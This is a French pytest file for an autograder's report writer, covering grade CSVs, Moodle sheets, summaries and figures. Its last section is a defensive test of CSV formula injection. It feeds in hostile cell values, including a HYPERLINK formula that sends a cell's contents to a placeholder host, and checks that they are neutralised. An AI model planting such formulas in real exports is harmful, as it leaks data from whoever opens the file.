"""Rapports de fin de correction (autograder/report.py) : CSV, feuille Moodle, résumé, figure."""

import csv
import sys

import pytest

from paths import ROOT

if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from autograder import report  # noqa: E402
from autograder.report import Cell, StudentRow  # noqa: E402

CELLS = [Cell("acp", 4), Cell("normaliser", 3), Cell("encodeur", 3)]


def klass():
    """Petite classe : trois copies notées (totaux 3, 5, 10), une suspecte, deux non notées."""
    return [
        StudentRow("carol", {"acp": 4, "normaliser": 3, "encodeur": 3}, "notée",
                   True, name="Carole Lefèvre", moodle_id="103"),
        StudentRow("alice", {"acp": 1, "normaliser": 2, "encodeur": 0}, "notée", True,
                   name="Alice Dupont", moodle_id="101"),
        StudentRow("bob", {"acp": 4, "normaliser": 0.3333, "encodeur": 0.6667},
                   "notée ; délai dépassé (cellule acp)", True,
                   flagged="numpy.allclose remplacée (cellule « normaliser »)", name="Bob Martin"),
        StudentRow("dave", {}, "copie vide : le fichier est vide", False, name="Dave Noël",
                   moodle_id="104"),
        StudentRow("eve", {}, "copie absente : aucun fichier rendu", False),
    ]


def read(path):
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_total_sums_the_points():
    assert report.total(klass()[0]) == 10
    assert report.total(StudentRow("x", {}, "copie vide : vide", False)) == 0


def test_grades_csv_columns_and_values(tmp_path):
    path = tmp_path / "notes.csv"
    report.write_grades_csv(path, "01_ae_lineaire", CELLS, klass())
    rows = read(path)
    assert list(rows[0]) == ["etudiant", "nom", "acp", "normaliser", "encodeur",
                             "total", "total_max", "statut", "a_verifier"]
    assert [r["etudiant"] for r in rows] == ["alice", "bob", "carol", "dave", "eve"]
    alice, bob, carol = rows[0], rows[1], rows[2]
    assert (alice["acp"], alice["normaliser"], alice["encodeur"], alice["total"]) == ("1", "2", "0", "3")
    assert alice["total_max"] == "10" and alice["statut"] == "notée" and alice["a_verifier"] == ""
    # deux décimales au plus, séparateur point
    assert (bob["normaliser"], bob["encodeur"], bob["total"]) == ("0.33", "0.67", "5")
    assert bob["a_verifier"] == "numpy.allclose remplacée (cellule « normaliser »)"
    assert bob["statut"] == "notée ; délai dépassé (cellule acp)"
    assert carol["total"] == "10" and carol["nom"] == "Carole Lefèvre"


def test_grades_csv_leaves_ungraded_cells_empty(tmp_path):
    rows = klass() + [StudentRow("fred", {"acp": 2}, "notée", True)]
    path = tmp_path / "notes.csv"
    report.write_grades_csv(path, "a", CELLS, rows)
    by_id = {r["etudiant"]: r for r in read(path)}
    for student in ("dave", "eve"):
        assert [by_id[student][c.grade_id] for c in CELLS] == ["", "", ""]
        assert by_id[student]["total"] == "0"
    assert by_id["dave"]["statut"] == "copie vide : le fichier est vide"
    assert by_id["eve"]["nom"] == ""
    # une cellule non notée d'une copie notée reste vide, elle aussi
    assert (by_id["fred"]["acp"], by_id["fred"]["normaliser"], by_id["fred"]["total"]) == ("2", "", "2")


def test_csv_files_are_byte_identical_whatever_the_row_order(tmp_path):
    for name, rows in (("a", klass()), ("b", klass()), ("c", list(reversed(klass())))):
        report.write_grades_csv(tmp_path / f"notes_{name}.csv", "d", CELLS, rows)
        report.write_moodle_csv(tmp_path / f"moodle_{name}.csv", "d", CELLS, rows)
    for kind in ("notes", "moodle"):
        first = (tmp_path / f"{kind}_a.csv").read_bytes()
        assert first
        assert (tmp_path / f"{kind}_b.csv").read_bytes() == first
        assert (tmp_path / f"{kind}_c.csv").read_bytes() == first


def test_duplicate_student_is_refused(tmp_path):
    rows = klass() + [StudentRow("alice", {}, "notée", True)]
    with pytest.raises(ValueError, match="alice"):
        report.write_grades_csv(tmp_path / "notes.csv", "a", CELLS, rows)


def test_moodle_worksheet(tmp_path):
    path = tmp_path / "moodle.csv"
    report.write_moodle_csv(path, "a", CELLS, klass())
    assert path.read_text(encoding="utf-8").splitlines()[0] == \
        "Identifier,Full name,Grade,Maximum Grade,Feedback comments"
    by_name = {r["Full name"]: r for r in read(path)}
    alice = by_name["Alice Dupont"]
    assert alice == {"Identifier": "Participant 101", "Full name": "Alice Dupont", "Grade": "3.00",
                     "Maximum Grade": "10.00", "Feedback comments": "notée"}
    # copie suspecte : pas de note, le commentaire dit pourquoi ; pas d'identifiant Moodle connu
    bob = by_name["Bob Martin"]
    assert bob["Grade"] == "" and bob["Identifier"] == "bob"
    assert bob["Feedback comments"] == (
        "notée ; délai dépassé (cellule acp) — à vérifier par l'enseignant : "
        "numpy.allclose remplacée (cellule « normaliser »)")
    # copies non notées : 0, nom d'affichage à défaut l'identifiant nbgrader
    assert by_name["Dave Noël"]["Grade"] == "0.00"
    assert by_name["Dave Noël"]["Feedback comments"] == "copie vide : le fichier est vide"
    assert by_name["eve"]["Grade"] == "0.00" and by_name["eve"]["Identifier"] == "eve"


def test_flagged_copy_that_was_not_graded_still_has_no_grade(tmp_path):
    row = StudentRow("zoe", {}, "copie vide : vide", False, flagged="tests supprimés")
    path = tmp_path / "moodle.csv"
    report.write_moodle_csv(path, "a", CELLS, [row])
    assert read(path)[0]["Grade"] == ""


def test_accented_names_survive(tmp_path):
    row = StudentRow("jl", {"acp": 4}, "notée", True, name="Jérôme Lœuvre-Çağlar", moodle_id="7")
    paths = report.write_all(tmp_path, "a", CELLS, [row])
    assert read(paths["notes"])[0]["nom"] == "Jérôme Lœuvre-Çağlar"
    assert read(paths["moodle"])[0]["Full name"] == "Jérôme Lœuvre-Çağlar"
    assert "Jérôme Lœuvre-Çağlar".encode("utf-8") in paths["notes"].read_bytes()


def test_summary_on_a_small_class():
    text = report.summary_text("01_ae_lineaire", CELLS, klass())
    lines = text.splitlines()
    assert lines[0] == "Devoir 01_ae_lineaire : 5 étudiants, 3 copies notées, 2 non notées."
    assert "Copies non notées : copie absente (1), copie vide (1)." in lines
    assert "Copies à vérifier (tests peut-être modifiés, sans note dans Moodle) : 1" in lines
    assert "  - bob (Bob Martin) : numpy.allclose remplacée (cellule « normaliser »)" in lines
    # totaux des copies notées : 3, 5 et 10 -> moyenne 6, médiane 5
    assert ("Totaux des copies notées (sur 10,00) : moyenne 6,00, médiane 5,00, "
            "minimum 3,00, maximum 10,00.") in lines
    # tous les points : acp carol et bob (2/3), normaliser carol (1/3), encodeur carol (1/3)
    rates = lines[lines.index("Réussite par question (copies notées ayant tous les points) :") + 1:]
    assert rates == ["  - acp : 2/3 (67 %)", "  - normaliser : 1/3 (33 %)", "  - encodeur : 1/3 (33 %)"]


def test_summary_when_nobody_was_graded():
    rows = [StudentRow("a", {}, "copie vide : vide", False),
            StudentRow("b", {}, "copie vide : vide", False),
            StudentRow("c", {}, "problème de collecte", False)]
    text = report.summary_text("a", CELLS, rows)
    assert text.splitlines()[0] == "Devoir a : 3 étudiants, 0 copie notée, 3 non notées."
    assert "Copies non notées : copie vide (2), problème de collecte (1)." in text
    assert text.splitlines()[-1] == "Aucune copie notée : pas de moyenne ni de taux de réussite."
    assert "Totaux" not in text and "Réussite par question" not in text
    assert report.summary_text("a", CELLS, []).splitlines()[0] == \
        "Devoir a : 0 étudiant, 0 copie notée, 0 non notée."


@pytest.mark.parametrize("rows", [klass(), [], [StudentRow("a", {}, "copie vide : vide", False)]],
                         ids=["classe", "vide", "aucune-notee"])
def test_figure_is_a_png(tmp_path, rows):
    path = tmp_path / "resume.png"
    report.summary_figure(path, "01_ae_lineaire", CELLS, rows)
    data = path.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    assert len(data) > 10_000


def test_figure_does_not_touch_pyplot(tmp_path):
    import matplotlib
    from matplotlib import pyplot

    backend, figures = matplotlib.get_backend(), pyplot.get_fignums()  # d'autres tests en ouvrent
    report.summary_figure(tmp_path / "resume.png", "a", CELLS, klass())
    assert matplotlib.get_backend() == backend
    assert pyplot.get_fignums() == figures


def test_write_all(tmp_path):
    folder = tmp_path / "rapports" / "01"
    paths = report.write_all(folder, "01_ae_lineaire", CELLS, klass())
    assert paths == {
        "notes": folder / "notes_01_ae_lineaire.csv",
        "moodle": folder / "moodle_01_ae_lineaire.csv",
        "figure": folder / "resume_01_ae_lineaire.png",
        "resume": folder / "resume_01_ae_lineaire.txt",
    }
    assert all(path.is_file() for path in paths.values())
    assert paths["resume"].read_text(encoding="utf-8") == \
        report.summary_text("01_ae_lineaire", CELLS, klass()) + "\n"


# --- injection CSV (OWASP) ------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ["=1+2", "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2",
           '=HYPERLINK("http://exemple.invalid/?"&A1;"clic")']


def hostile_class():
    """Chaque case de texte commence par un début de formule ; les points restent des nombres."""
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(StudentRow(f"{text}{i}", {"acp": 4, "normaliser": 0.5, "encodeur": 0}, text, True,
                               flagged=text if i % 2 else None, name=text,
                               moodle_id=None if i % 3 else str(100 + i)))
    rows.append(StudentRow("-absent", {}, "-copie absente", False, name="@nom"))
    return rows


def cells(path):
    """Les cases du fichier telles qu'un tableur les lit (module csv)."""
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize("writer, numbers", [(report.write_grades_csv, {2, 3, 4, 5, 6}),
                                             (report.write_moodle_csv, {2, 3})], ids=["notes", "moodle"])
def test_no_csv_cell_starts_a_formula(tmp_path, writer, numbers):
    path = tmp_path / "f.csv"
    writer(path, "a", CELLS, hostile_class())
    table = cells(path)
    assert len(table) == len(hostile_class()) + 1
    for line in table[1:]:
        for column, cell in enumerate(line):
            assert not cell.startswith(FORMULA_START), (column, cell)
            if column in numbers and cell:
                float(cell)  # les points restent des nombres que Moodle importe
            elif cell[1:] and cell[1:].startswith(FORMULA_START):
                assert cell[0] == "'"  # l'apostrophe de l'OWASP, le texte reçu intact derrière


def neutralised(*texts):
    return {"'" + text.replace("\r", "\n") for text in texts}


def test_neutralised_cells_keep_the_text(tmp_path):
    paths = report.write_all(tmp_path, "a", CELLS, hostile_class())
    notes, moodle = read(paths["notes"]), read(paths["moodle"])
    assert {r["nom"] for r in notes} == neutralised(*HOSTILE, "@nom")
    assert {r["statut"] for r in notes} == neutralised(*HOSTILE, "-copie absente")
    assert {r["a_verifier"] for r in notes} == {""} | neutralised(*HOSTILE[1::2])
    assert {r["etudiant"] for r in notes} == neutralised(*(f"{t}{i}" for i, t in enumerate(HOSTILE)), "-absent")
    assert {r["Feedback comments"].split(" — ")[0] for r in moodle} == neutralised(*HOSTILE, "-copie absente")
    assert [r["Grade"] for r in moodle].count("4.50") == len(HOSTILE) - len(HOSTILE[1::2])


def test_carriage_return_inside_a_cell_never_starts_a_row(tmp_path):
    """Un retour chariot seul, sans guillemets, ferait commencer au tableur une ligne par « =… »."""
    row = StudentRow("alice", {"acp": 4}, "notée", True, name="Alice\r=1+2", moodle_id="7")
    report.write_moodle_csv(tmp_path / "moodle.csv", "a", CELLS, [row])
    report.write_grades_csv(tmp_path / "notes.csv", "a", CELLS, [row])
    assert len(cells(tmp_path / "moodle.csv")) == len(cells(tmp_path / "notes.csv")) == 2
    assert read(tmp_path / "moodle.csv")[0]["Full name"] == "Alice\n=1+2"


HONEST_NOTES = (
    "etudiant,nom,acp,normaliser,encodeur,total,total_max,statut,a_verifier\n"
    "alice,Alice Dupont,1,2,0,3,10,notée,\n"
    "bob,Bob Martin,4,0.33,0.67,5,10,notée ; délai dépassé (cellule acp),"
    "numpy.allclose remplacée (cellule « normaliser »)\n"
    "carol,Carole Lefèvre,4,3,3,10,10,notée,\n"
    "dave,Dave Noël,,,,0,10,copie vide : le fichier est vide,\n"
    "eve,,,,,0,10,copie absente : aucun fichier rendu,\n")
HONEST_MOODLE = (
    "Identifier,Full name,Grade,Maximum Grade,Feedback comments\n"
    "Participant 101,Alice Dupont,3.00,10.00,notée\n"
    "bob,Bob Martin,,10.00,notée ; délai dépassé (cellule acp) — à vérifier par l'enseignant : "
    "numpy.allclose remplacée (cellule « normaliser »)\n"
    "Participant 103,Carole Lefèvre,10.00,10.00,notée\n"
    "Participant 104,Dave Noël,0.00,10.00,copie vide : le fichier est vide\n"
    "eve,eve,0.00,10.00,copie absente : aucun fichier rendu\n")


def test_honest_class_csv_bytes_unchanged(tmp_path):
    """Les octets écrits avant la neutralisation des formules, pour une classe sans formule."""
    report.write_grades_csv(tmp_path / "notes.csv", "a", CELLS, klass())
    report.write_moodle_csv(tmp_path / "moodle.csv", "a", CELLS, klass())
    assert (tmp_path / "notes.csv").read_bytes() == HONEST_NOTES.encode("utf-8")
    assert (tmp_path / "moodle.csv").read_bytes() == HONEST_MOODLE.encode("utf-8")
